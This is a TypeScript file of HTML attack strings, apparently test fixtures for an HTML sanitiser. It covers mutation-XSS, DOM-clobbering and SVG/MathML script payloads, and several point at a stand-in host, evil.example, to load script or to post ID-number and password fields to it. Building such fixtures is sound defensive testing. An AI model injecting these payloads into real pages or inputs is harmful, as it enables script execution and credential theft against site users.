const RUN = 'hostile()';
const IMG = `<img src=nothing onerror=${RUN}>`;

/** Mutation XSS: markup that parses to another tree after sanitising. */
const mutations = [
  `<noscript><p title="</noscript>${IMG}"></noscript>`,
  `<noscript><style></noscript>${IMG}`,
  `<noembed><p title="</noembed>${IMG}"></noembed>`,
  `<noframes><p title="</noframes>${IMG}"></noframes>`,
  `<xmp><p title="</xmp>${IMG}"></xmp>`,
  `<iframe><p title="</iframe>${IMG}"></iframe>`,
  `<plaintext>${IMG}`,
  `<listing>&lt;img src=nothing onerror=${RUN}&gt;</listing>`,
  `<textarea><p title="</textarea>${IMG}"></textarea>`,
  `<title><p title="</title>${IMG}"></title>`,
  `<math><mtext><table><mglyph><style><!--</style>${IMG}--></style></mglyph></table></mtext></math>`,
  `<math><mtext><mglyph><style><!--</style>${IMG}-->`,
  `<math><mi><table><mglyph><style><math>${IMG}</math></style></mglyph></table></mi></math>`,
  `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><p><style><p title="</style>${IMG}">`,
  `<math><mtext><p><mglyph><svg><mtext><style><p title="</style>${IMG}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<svg></p><style><p title="</style>${IMG}">`,
  `<svg><p><style><p title="</style>${IMG}"></style></p></svg>`,
  `<svg><style><p title="</style>${IMG}"></style></svg>`,
  `<svg><desc><style><p title="</style>${IMG}"></style></desc></svg>`,
  `<svg><title><style><p title="</style>${IMG}"></style></title></svg>`,
  `<svg><foreignObject><math><mi><style><p title="</style>${IMG}">`,
  `<svg><![CDATA[</svg>${IMG}]]></svg>`,
  `<svg><style>&lt;/style&gt;${IMG}</style></svg>`,
  `<table><td>${IMG}</table>`,
  `<table><caption><svg><title><table><caption>${IMG}`,
  `<table><tr><p>${IMG}<td>x</table>`,
  `<select><style></select>${IMG}</style>`,
  `<select><template><style><p title="</style>${IMG}"></template></select>`,
  `<template><style></template>${IMG}</style></template>`,
  `<template><p>${IMG}</p></template>`,
  `<template shadowrootmode=open>${IMG}<slot></slot></template>`,
  `<p><template shadowroot=open><script>${RUN}</script></template></p>`,
  `<!--><p title="-->${IMG}">`,
  `<!---><p title="-->${IMG}">`,
  `<!-- --!>${IMG} -->`,
  `<!--<!-->${IMG}-->`,
  `<!-- <p title="-->${IMG}">`,
  `<!x${IMG}>`,
  `</x ${IMG}>`,
  `<?x ${IMG}?>`,
  `<%${IMG}%>`,
  `<a><a>${IMG}</a></a>`,
  `<p><p title="<p>${IMG}">x`,
  `${'<b>'.repeat(600)}${IMG}`,
  `${'<div>'.repeat(300)}<svg>${'<b>'.repeat(300)}<style><p title="</style>${IMG}">`,
  `<dl><dt><form><dd></form>${IMG}`,
  `<p title="&quot;&gt;&lt;img src=nothing onerror=${RUN}&gt;">x</p>`,
  `&lt;img src=nothing onerror=${RUN}&gt;`,
  `<p>\u003cimg src=nothing onerror=${RUN}\u003e</p>`,
  `<img alt="&lt;/p&gt;&lt;script&gt;${RUN}&lt;/script&gt;" src="//evil.example/a.gif">`,
];

const NAMES = (
  'root getElementById body head cookie forms location defaultView documentElement createElement querySelector ' +
  'attributes parentNode childNodes ownerDocument nodeName removeChild textContent site-config trustedTypes ' +
  'localStorage currentScript __proto__ constructor hasOwnProperty toString'
).split(' ');

/** DOM clobbering: names that hide properties of the document. */
const clobbering = [
  ...NAMES.map((name) => `<p id="${name}">x</p><img name="${name}" alt="" src="">`),
  ...NAMES.slice(0, 12).map(
    (name) => `<form name="${name}"><input name="attributes"><input name="${name}"></form>`,
  ),
  `<a id=config><a id=config name=apiBase href=https://evil.example/>x</a></a>`,
  `<form id=x><output id=y name=z>1</output></form><form id=x></form>`,
  `<iframe name=parent srcdoc="<a id=location></a>"></iframe>`,
  `<object id=document name=document></object><embed name=window>`,
  `<p id="pole-imie" name="imie">x</p><label for="pole-pesel">x</label>`,
  `<p slot=x part=y is=z contenteditable draggable spellcheck accesskey=a>x</p>`,
  `<p role=alert aria-live=assertive aria-label=x data-a=b lang=xx dir=rtl>x</p>`,
];

/** Other namespaces in HTML. */
const foreign = [
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><script xlink:href=//evil.example/a.js></script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x to=y></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><a><set attributeName=href to="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><animateTransform onbegin=${RUN} attributeName=transform></svg>`,
  `<svg><foreignObject><body onload=${RUN}>x</body></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><handler type="text/javascript" ev:event=load>${RUN}</handler></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><discard onbegin=${RUN} /></svg>`,
  `<svg><view onfocus=${RUN} tabindex=1 autofocus /></svg>`,
  `<svg/onload=${RUN}//`,
  `<math><maction actiontype=toggle onclick=${RUN}>x</maction></math>`,
  `<math><mrow xlink:type=simple xlink:href="javascript:${RUN}">x</mrow></math>`,
  `<math><semantics><annotation-xml><script>${RUN}</script></annotation-xml></semantics></math>`,
  `<math onclick=${RUN} tabindex=1><mi>x</mi></math>`,
  `<form><input type=submit formaction="javascript:${RUN}"><isindex action="javascript:${RUN}"></form>`,
  `<form action=https://evil.example/ method=post><input name=pesel><button>Dalej</button></form>`,
  `<input name=pesel autocomplete=on><input type=password name=haslo>`,
  `<label>x<input type=file></label><select name=a><option>x</option></select>`,
  `<button type=submit form=root formtarget=_top>x</button>`,
];

/** Snippets that try to change the surrounding tree. */
export const TREES: readonly string[] = [...mutations, ...clobbering, ...foreign];
